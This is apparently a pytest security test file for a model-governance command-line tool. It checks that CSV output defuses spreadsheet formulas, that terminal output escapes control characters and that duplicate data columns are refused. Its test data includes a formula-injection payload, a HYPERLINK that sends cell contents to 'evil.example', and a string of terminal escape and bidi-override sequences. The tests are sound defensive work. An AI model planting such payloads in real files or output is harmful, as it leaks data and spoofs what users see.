"""Outputs that cannot attack their readers, and data that cannot hide a second column (issue 10, point 9).

A CSV cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to a spreadsheet; a
value holding ESC sequences or a carriage return rewrites the terminal it is printed on. Both come from data and
register entries that anyone may have typed. A data file with two columns of the same name is refused, whichever
way it is read.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from security_support import add_model_version, make_workspace, one_error_line, run
from sklearn.linear_model import LogisticRegression

from governance.intake.model_files import save_model

HOSTILE = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\rOVERWRITTEN\x9b1m\u202eevil"
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = make_workspace(tmp_path / "ws")
    monkeypatch.chdir(root)
    return root


def _assert_terminal_safe(output: str) -> None:
    found = CONTROL.findall(output)
    assert not found, f"control characters reach the terminal: {found!r}"


# ---------------------------------------------------------------------------------------------- CSV formulas


def test_explain_batch_csv_has_no_cell_a_spreadsheet_would_evaluate(workspace: Path) -> None:
    rng = np.random.default_rng(3)
    n = 300
    income = rng.normal(50, 10, size=n)
    frame = pd.DataFrame(
        {
            "=id": [f'{FORMULA_START[i % 6]}HYPERLINK("http://evil.example/?"&A1){i}' for i in range(n)],
            "=income": income,
            "@tenure": rng.integers(0, 20, size=n),
            "group": rng.choice(["A", "B"], size=n),
        }
    )
    label = (income + rng.normal(0, 5, size=n) > 50).astype(int)
    model = LogisticRegression().fit(frame[["=income", "@tenure"]], label)
    save_model(model, workspace / "hostile.skops")
    frame.to_csv(workspace / "hostile.csv", index=False)
    result = run(
        workspace,
        "explain",
        "--model",
        "hostile.skops",
        "--data",
        "hostile.csv",
        "--id-column",
        "=id",
        "--sensitive",
        "group",
        "--batch",
        "reasons.csv",
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO((workspace / "reasons.csv").read_text(encoding="utf-8"), newline="")))
    assert len(rows) > 10
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_START) and not _plain_number(cell)]
    assert dangerous == []
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)  # neutralised, not dropped
    assert "'=id" in rows[0] and any(cell == "'=income" for cell in cells)


def _plain_number(cell: str) -> bool:
    return re.fullmatch(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?", cell) is not None


# ---------------------------------------------------------------------------------------- terminal escapes


def test_register_show_and_history_escape_control_characters(workspace: Path) -> None:
    added = run(
        workspace,
        "register",
        "add",
        "m",
        "--owner",
        f"ana{HOSTILE}@example.com",
        "--purpose",
        f"Credit {HOSTILE}",
        "--version",
        "1",
        "--model",
        str(workspace / "model.skops"),
    )
    assert added.exit_code == 0, added.output
    _assert_terminal_safe(added.output)
    assert run(workspace, "register", "incident", "m@1", "--title", f"Leak {HOSTILE}").exit_code == 0
    for command in (
        ("register", "show", "m"),
        ("register", "history", "m"),
        ("register", "history"),
        ("register", "list"),
    ):
        result = run(workspace, *command)
        assert result.exit_code == 0, result.output
        _assert_terminal_safe(result.output)
        assert "\\x1b" in result.output  # shown, visibly, rather than dropped without a trace
    show = run(workspace, "register", "show", "m").output
    assert "OVERWRITTEN" in show and "\\r" in show


def test_status_escapes_a_hostile_file_name(workspace: Path) -> None:
    hostile = workspace / f"model{HOSTILE.replace('/', '')}.skops"
    hostile.write_bytes((workspace / "model.skops").read_bytes())
    assert add_model_version(workspace, str(hostile)).exit_code == 0
    hostile.write_bytes(b"changed")
    result = run(workspace, "status")
    assert "model" in result.output, result.output
    _assert_terminal_safe(result.output)


def test_checklist_answers_are_escaped(workspace: Path) -> None:
    assert run(workspace, "register", "add", "m", "--owner", "o@x", "--purpose", "p").exit_code == 0
    listing = run(workspace, "checklist", "list", "--framework", "eu-ai-act").output
    item = re.search(r"eu-ai-act\.[a-z0-9.-]+", listing)
    assert item is not None, listing
    answered = run(
        workspace, "checklist", "answer", "m", item.group(0), "--status", "no", "--evidence", HOSTILE
    )
    assert answered.exit_code == 0, answered.output
    _assert_terminal_safe(answered.output)
    status = run(workspace, "checklist", "status", "m", "--framework", "eu-ai-act")
    _assert_terminal_safe(status.output)


def test_the_audit_summary_escapes_group_values_and_errors_escape_names(workspace: Path) -> None:
    frame = pd.read_csv(workspace / "holdout.csv")
    frame["group"] = frame["group"].map({"A": "A", "B": f"B{HOSTILE}"})
    frame.to_parquet(workspace / "hostile.parquet", index=False)  # Parquet keeps the carriage return as it is
    audit = (
        "audit",
        "m@1",
        "--no-register",
        "--model",
        "model.skops",
        "--data",
        "hostile.parquet",
        "--target",
        "label",
        "--no-explain",
        "--no-figures",
        "--n-boot",
        "50",
        "--policy",
        "four-fifths",
    )
    result = run(workspace, *audit, "--sensitive", "group")
    assert result.exit_code in (0, 1, 3), result.output
    assert "group: B" in result.output
    _assert_terminal_safe(result.output)
    refused = run(workspace, *audit, "--sensitive", f"grp{HOSTILE}")
    assert refused.exit_code == 2
    _assert_terminal_safe(refused.output)
    one_error_line(refused)


# ------------------------------------------------------------------------------------- duplicate columns


def _twice(workspace: Path, suffix: str) -> Path:
    frame = pd.read_csv(workspace / "holdout.csv")
    frame["hired"] = (frame["income"] > 50).astype(int)
    columns = ["id", "income", "group", "label", "hired"]
    values = [frame[name].to_numpy() for name in columns]
    values.append(np.where(frame["group"] == "A", "B", "A"))  # a second 'group', the other way round
    names = [*columns, "group"]
    path = workspace / f"twice{suffix}"
    if suffix == ".csv":
        pd.DataFrame(dict(enumerate(values))).set_axis(names, axis=1).to_csv(path, index=False)
    else:
        pq.write_table(pa.Table.from_arrays([pa.array(v) for v in values], names=names), path)
    return path


@pytest.mark.parametrize(
    ("suffix", "how"),
    [
        (".csv", ("--model", "model.skops", "--target", "label")),
        (".parquet", ("--model", "model.skops", "--target", "label")),
        (".parquet", ("--predictions", "hired")),
    ],
    ids=["csv-in-memory", "parquet-in-memory", "parquet-streamed"],
)
def test_a_column_named_twice_is_refused_by_name(workspace: Path, suffix: str, how: tuple[str, ...]) -> None:
    data = _twice(workspace, suffix)
    result = run(
        workspace,
        "audit",
        "m@1",
        "--no-register",
        "--data",
        str(data),
        *how,
        "--sensitive",
        "group",
        "--no-explain",
        "--no-figures",
        "--n-boot",
        "50",
    )
    assert result.exit_code == 2, result.output
    line = one_error_line(result)
    assert "'group'" in line and "twice" in line, line
    assert not (workspace / "audits").exists() or not any((workspace / "audits").rglob("audit.json"))


def test_a_column_named_twice_in_the_sensitive_data_is_refused(workspace: Path) -> None:
    data = _twice(workspace, ".csv")
    result = run(
        workspace,
        "audit",
        "m@1",
        "--no-register",
        "--data",
        "holdout.csv",
        "--sensitive-data",
        str(data),
        "--id",
        "id",
        "--model",
        "model.skops",
        "--target",
        "label",
        "--sensitive",
        "group",
        "--no-explain",
        "--no-figures",
        "--n-boot",
        "50",
    )
    assert result.exit_code == 2, result.output
    assert "'group'" in one_error_line(result)
